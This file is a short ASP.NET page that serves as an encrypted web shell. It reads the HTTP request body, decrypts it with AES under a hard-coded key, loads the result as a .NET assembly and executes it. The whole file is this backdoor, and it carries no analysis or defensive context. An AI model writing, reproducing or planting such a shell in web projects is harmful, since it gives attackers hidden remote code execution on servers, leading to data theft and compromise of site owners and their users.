<%@ Page Language="C#" %><%
byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
byte[] c = Request.BinaryRead(Request.ContentLength);
var a = new System.Security.Cryptography.RijndaelManaged();
byte[] raw = a.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);
System.Reflection.Assembly.Load(raw).CreateInstance("E").Equals(this);
%>
